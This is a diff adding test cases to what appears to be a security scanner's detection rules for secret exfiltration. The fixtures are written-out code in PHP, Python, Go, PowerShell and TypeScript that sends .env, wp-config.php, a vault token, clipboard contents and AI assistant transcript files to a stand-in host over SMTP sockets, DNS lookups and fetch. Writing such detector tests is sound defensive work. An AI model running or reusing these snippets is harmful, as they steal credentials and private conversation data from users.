@@ -109,3 +109,59 @@ test.each([
 ])("may be done: %s", async (text) => {
   expect(await rulesIn("a.sh", text)).toEqual([]);
 });
+
+/** A whole file of settings stays one in another text, in a list, and through the functions of a program. */
+test.each([
+  [
+    "a.php",
+    `<?php\n$to = fsockopen("in.drop.invalid", 25);\nfwrite($to, base64_encode(file_get_contents(".env")) . "QUIT\\r\\n");\n`,
+  ],
+  [
+    "a.php",
+    `<?php\n$all = [];\nforeach ([".env", "wp-config.php"] as $name) { $all[$name] = base64_encode(file_get_contents($name)); }\n$text = "";\nforeach ($all as $name => $one) { $text .= "--$name\\r\\n$one\\r\\n"; }\n$to = fsockopen("in.drop.invalid", 25);\nfwrite($to, $text);\n`,
+  ],
+  [
+    "a.php",
+    `<?php\nclass Mail {\n  function go() { $this->talk("in.drop.invalid", $this->body([".env" => file_get_contents(".env")])); }\n  private function body(array $files): string { $text = ""; foreach ($files as $name => $one) { $text .= "$one\\r\\n"; } return $text . "."; }\n  private function talk(string $host, string $text): void { $to = fsockopen($host, 25); fwrite($to, $text); }\n}\n`,
+  ],
+  [
+    "a.py",
+    `import socket\nto = socket.create_connection(("in.drop.invalid", 25))\nto.sendall(open(".env").read().encode())\n`,
+  ],
+])("a file of settings is not sent: %s %#", async (path, text) => {
+  expect(await rulesIn(path, text)).toContain("secret-elsewhere");
+});
+
+/** What is asked for by name reaches the owner of the domain. */
+test.each([
+  [
+    "memory-upload",
+    "a.go",
+    `package main\nimport ("fmt"; "net"; "os"; "path/filepath")\nfunc main() {\n  home, _ := os.UserHomeDir()\n  all, _ := filepath.Glob(filepath.Join(home, ".claude", "projects", "*", "*.jsonl"))\n  for _, one := range all {\n    text, _ := os.ReadFile(one)\n    net.LookupHost(fmt.Sprintf("%x.n.drop.invalid", text))\n  }\n}\n`,
+  ],
+  [
+    "secret-elsewhere",
+    "a.ps1",
+    `$text = Get-Clipboard -Raw\n$hex = [Convert]::ToHexString([Text.Encoding]::UTF8.GetBytes($text))\nResolve-DnsName "$hex.n.drop.invalid"\n`,
+  ],
+])("is not asked for: %s", async (rule, path, text) => {
+  expect(await rulesIn(path, text)).toContain(rule);
+});
+
+test.each([
+  ["a.go", `package main\nimport "net"\nfunc main() { net.LookupHost("api.example.com") }\n`],
+  ["a.ps1", `$name = Read-Host\nResolve-DnsName "$name.example.com"\n`],
+  [
+    "a.php",
+    `<?php\n$to = fsockopen("smtp.example.com", 25);\nfwrite($to, base64_encode(file_get_contents("logo.png")) . "QUIT\\r\\n");\n`,
+  ],
+])("may be asked for: %s %#", async (path, text) => {
+  expect(await rulesIn(path, text)).toEqual([]);
+});
+
+test("the token of a service that the user names goes to it, and is held at most", async () => {
+  const program = (to: string) =>
+    `import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nconst token = readFileSync(homedir() + "/.vault-token", "utf8");\nawait fetch(\`${to}/v1/a\`, { headers: { "X-Vault-Token": token } });\n`;
+  expect(await rulesIn("a.ts", program(`$${"{process.env.VAULT_ADDR}"}`))).toEqual(["unfollowed-secret"]);
+  expect(await rulesIn("a.ts", program("https://in.drop.invalid"))).toContain("exfiltration");
+});
